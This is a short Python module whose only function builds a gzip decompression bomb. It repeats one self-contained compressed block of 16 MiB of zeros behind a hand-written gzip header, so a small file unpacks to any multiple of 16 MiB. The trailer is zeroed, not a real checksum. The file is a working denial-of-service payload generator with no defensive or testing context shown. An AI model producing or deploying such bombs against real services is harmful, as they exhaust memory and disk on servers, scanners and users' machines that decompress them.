"""Little that unpacks to much."""

import zlib


def bomb(size: int) -> bytes:
    """gzip that unpacks to `size` zeros, a multiple of 16 MiB, made without packing them all."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    # After a full flush nothing refers to what was before: the same bytes again are the same zeros again.
    repeated = packer.compress(bytes(16 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + repeated * (size >> 24) + packer.flush() + bytes(8)
